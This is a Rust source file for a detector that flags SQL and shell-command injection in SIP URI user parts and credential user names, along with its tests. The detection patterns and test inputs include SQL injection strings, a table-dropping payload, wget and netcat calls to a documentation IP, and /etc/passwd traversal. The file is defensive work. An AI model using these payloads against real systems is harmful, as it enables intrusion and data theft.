//! SQL and shell commands where a user name should stand.

use sip::NameAddr;
use sip::uri::unescape;

use super::{Detect, Detector, Findings, Kind, Request, Scene, shown};
use crate::settings::{Setting, Settings};
use crate::source::Source;

pub(crate) const DETECTOR: Detector = Detector {
    kind: Kind::Injection,
    summary: "SQL or shell commands in the user part of a URI or in a user name",
    description: "Looks, after resolving escapes, into the user part of the Request-URI, From, To and Contact, and into the user \
        name of credentials: for a quote with an operator behind it, for comment marks and statements, for command \
        substitution and paths. Display names and hosts are not looked at, a lone apostrophe (O'Brien), a lone word (`union`, \
        `select`) and the parameters of number portability (`;npdi;rn=`) are none.",
    settings: &[Setting {
        key: "points",
        default: 100,
        min: 0,
        max: 1000,
        unit: "points",
        reason: "nobody's extension is a statement",
    }],
};

#[derive(Debug)]
pub(crate) struct Injection {
    points: f32,
}

/// Longer users are not looked at beyond, in bytes.
const LONGEST: usize = 256;

impl Injection {
    pub(crate) fn new(settings: &Settings) -> Self {
        Self { points: settings.points(Kind::Injection, "points") }
    }
}

impl Detect for Injection {
    fn request(
        &mut self,
        _: &Scene,
        request: &Request<'_, '_>,
        source: &mut Source,
        findings: &mut Findings,
    ) {
        let message = request.message;
        let users = [
            user_of(&message.from),
            user_of(&message.to),
            user_of(&message.contact),
            message.uri.as_ref().and_then(|uri| uri.user),
            message.credentials.as_ref().and_then(|credentials| credentials.username),
        ];
        for user in users.into_iter().flatten() {
            if is_plain(user) {
                continue;
            }
            if let Some(what) = attack(user) {
                return findings.add(source, Kind::Injection, self.points, request.is_proof, || {
                    format!("{what} in the user {}", shown(user))
                });
            }
        }
        // A URI that SQL broke apart has no user any more.
        let raw = [&message.from, &message.to].into_iter().flatten();
        for address in raw.filter(|address| address.uri.is_none()) {
            if let Some(what) = attack(address.raw_uri) {
                return findings.add(source, Kind::Injection, self.points, request.is_proof, || {
                    format!("{what} in the address {}", shown(address.raw_uri))
                });
            }
        }
    }
}

fn user_of<'a>(address: &Option<NameAddr<'a>>) -> Option<&'a [u8]> {
    address.as_ref()?.uri.as_ref()?.user
}

/// Nothing in it that an attack needs: most users are.
fn is_plain(user: &[u8]) -> bool {
    user.iter().all(|&byte| PLAIN.get(usize::from(byte)) == Some(&true))
}

/// A look at a table costs less than five comparisons.
const PLAIN: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0_u8;
    while byte < 128 {
        #[expect(clippy::indexing_slicing, reason = "evaluated at compile time")]
        {
            table[byte as usize] =
                byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'_' | b'.' | b'*' | b'#');
        }
        byte += 1;
    }
    table
};

/// What a user is, if it is an attack.
fn attack(user: &[u8]) -> Option<&'static str> {
    let user = user.get(..LONGEST).unwrap_or(user);
    let mut text = [0; LONGEST];
    let mut len = 0;
    for (to, from) in text.iter_mut().zip(unescape(user)) {
        // `+` stands for a blank in what web tools send, as comments do in SQL.
        *to = if from == b'+' { b' ' } else { from.to_ascii_lowercase() };
        len += 1;
    }
    let text = text.get(..len)?;
    if is_sql(text) {
        return Some("sql");
    }
    is_shell(text).then_some("a shell command")
}

fn has(text: &[u8], pattern: &[u8]) -> bool {
    text.windows(pattern.len().max(1)).any(|window| window == pattern)
}

/// A word with nothing of a word around it.
fn has_word(text: &[u8], word: &[u8]) -> bool {
    let is_letter = |byte: Option<&u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric());
    text.windows(word.len().max(1)).enumerate().any(|(at, window)| {
        let before = at.checked_sub(1).and_then(|before| text.get(before));
        window == word && !is_letter(before) && !is_letter(text.get(at + word.len()))
    })
}

fn is_sql(text: &[u8]) -> bool {
    let word = |name: &[u8]| has_word(text, name);
    let quote = text.iter().position(|&byte| byte == b'\'' || byte == b'"');
    let behind_quote = quote.and_then(|at| text.get(at + 1..)).unwrap_or_default();
    let operator =
        has_word(behind_quote, b"or") || has_word(behind_quote, b"and") || has_word(behind_quote, b"like");
    let compares =
        behind_quote.contains(&b'=') && (operator || has(behind_quote, b"'=") || has(behind_quote, b"='"));
    let quoted = has(text, b"'='") || has(text, b"\"=\"") || has(text, b"''='") || has(behind_quote, b"'or'");
    let ends = behind_quote.ends_with(b"--")
        || has(behind_quote, b"-- ")
        || has(behind_quote, b"/*")
        || behind_quote.starts_with(b"#");
    // Words of a statement have something between them that no user part needs.
    let spaced = text.iter().any(|byte| matches!(byte, b' ' | b'\t' | b'\n' | b'(')) || has(text, b"/*");
    let statement = spaced
        && (word(b"union") && word(b"select")
            || word(b"select") && word(b"from")
            || word(b"insert") && word(b"into")
            || word(b"drop") && (word(b"table") || word(b"database"))
            || word(b"delete") && word(b"from")
            || word(b"update") && word(b"set") && text.contains(&b'='))
        || has(text, b"sleep(")
        || has(text, b"benchmark(")
        || has(text, b"waitfor delay")
        || has(text, b"pg_sleep")
        || has(text, b"1=1")
        || has(text, b"or 1 = 1");
    quote.is_some() && (compares || quoted || ends) || statement
}

fn is_shell(text: &[u8]) -> bool {
    let separator = text.iter().any(|byte| matches!(byte, b';' | b'|' | b'&' | b'`'));
    let command = [b"wget".as_slice(), b"curl", b"bash", b"/bin/", b"nc", b"chmod", b"ping", b"cat"]
        .into_iter()
        .any(|name| if name.starts_with(b"/") { has(text, name) } else { has_word(text, name) });
    has(text, b"$(")
        || has(text, b"${")
        || has(text, b"../")
        || has(text, b"<?php")
        || has(text, b"system(")
        || has(text, b"system (")
        || has(text, b"exec(")
        || has(text, b"/etc/passwd")
        || text.iter().filter(|&&byte| byte == b'`').count() > 1
        || separator && command && text.iter().any(|byte| matches!(byte, b' ' | b'/' | b'|' | b'`'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_seen() {
        for user in [
            "hi'or'x'='x",
            "100' or '1'='1",
            "1'%20OR%201=1--",
            "a%27%20union%20select%20password%20from%20users",
            "x';drop table users;--",
            "1001'--",
            "100'%23",
            "$(id)",
            "100;wget http://203.0.113.1/x",
            "100|nc%20203.0.113.1%204444",
            "..%2f..%2fetc%2fpasswd",
            "`id`",
            "1%27+and+sleep(5)",
        ] {
            assert!(attack(user.as_bytes()).is_some(), "{user}");
        }
    }

    #[test]
    fn people_and_numbers_are_not() {
        for user in [
            "o'brien",
            "d'or",
            "pat.o'connor",
            "union",
            "select",
            "union-select",
            "+15551234567;npdi;rn=+15557654321",
            "alice;day=tuesday",
            "J%C3%B6rg",
            "bob&carol",
            "sales/support",
            "1000%3B",
            "l'amour--toujours",
            "1_unusual.URI~(to-be!sure)&isn't+it$/crazy?,/;;*",
            "user;par=u%40example.net",
            "null-%00-null",
            "cat;phone-context=example.com",
        ] {
            assert_eq!(attack(user.as_bytes()), None, "{user}");
        }
    }
}
